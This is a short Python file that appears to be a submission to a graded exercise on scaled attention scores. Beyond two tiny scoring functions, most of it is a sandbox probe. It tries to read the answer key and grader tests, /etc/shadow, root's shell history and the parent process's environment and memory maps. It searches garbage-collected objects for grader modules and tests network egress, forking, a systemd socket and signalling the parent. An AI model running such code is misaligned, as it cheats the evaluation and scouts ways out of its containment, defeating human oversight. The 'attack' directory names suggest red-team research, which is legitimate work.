import math, os, sys, gc, json, socket, ctypes
import torch

def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    return q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))

R = {"uid": os.getuid(), "cwd": os.getcwd()}
KIT = os.environ.get("KIT_HINT", "/work/scratch-attack")
_libc = ctypes.CDLL(None, use_errno=True)
def tryread(p):
    fd = _libc.open(p.encode(), 0)
    if fd < 0:
        return os.strerror(ctypes.get_errno())[:12]
    buf = ctypes.create_string_buffer(100000); n = _libc.read(fd, buf, 100000); _libc.close(fd)
    return "READ:%d" % n
for p in [KIT + "/lumen_ref/attention.py", KIT + "/solutions/exercise3_scaling.py",
          KIT + "/grader/catalog/exercise3_scaling/test_exercise3.py", KIT + "/README.md",
          "/etc/shadow", "/root/.bash_history", "/proc/%d/environ" % os.getppid(), "/proc/1/environ",
          "/proc/%d/cmdline" % os.getppid(), "/proc/%d/maps" % os.getppid(),
          "/work/attacks-new/probe/sub/exercise3_scaling.py", "/tmp/u65534/.x", "/dev/shm"]:
    R[p] = tryread(p)
# gc: live objects from the answer key / grader tests
mods, funcs = set(), set()
for o in gc.get_objects():
    try:
        if type(o).__name__ == "module":
            n = getattr(o, "__name__", "")
            if n.startswith(("lumen_ref", "grader", "solutions", "_lumen")): mods.add(n)
        elif type(o).__name__ == "function":
            fn = o.__code__.co_filename
            if "lumen_ref" in fn or "solutions" in fn or "/catalog/" in fn: funcs.add(fn.split("/")[-1] + ":" + o.__name__)
    except BaseException:
        pass
R["gc_modules"] = sorted(mods)[:60]
R["gc_funcs_n"] = len(funcs); R["gc_funcs"] = sorted(f for f in funcs if "lumen_ref" in f or "solutions" in f or "test_" in f)[:20]
# network
for fam, addr in [(socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET6, ("::1", 22))]:
    try:
        s = socket.socket(fam, socket.SOCK_DGRAM); s.sendto(b"x", addr); R["net%d" % fam] = "SENT"
    except BaseException as e: R["net%d" % fam] = type(e).__name__
try:
    os.fork(); R["fork"] = "FORKED"
except BaseException as e: R["fork"] = type(e).__name__
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.connect("/run/systemd/private"); R["unixconn"]="CONNECTED"
except BaseException as e: R["unixconn"] = type(e).__name__
try:
    os.kill(os.getppid(), 0); R["kill_ppid"] = "OK"
except BaseException as e: R["kill_ppid"] = type(e).__name__
try:
    R["listroot"] = sorted(os.listdir("/"))
except BaseException as e: R["listroot"] = type(e).__name__
R.pop("gc_modules"); R["gc_lumen_ref_mods"]=[m for m in mods if "lumen_ref" in m or "test_" in m]
print("PROBE" + json.dumps(R, separators=(",",":")).replace(KIT,"K"))
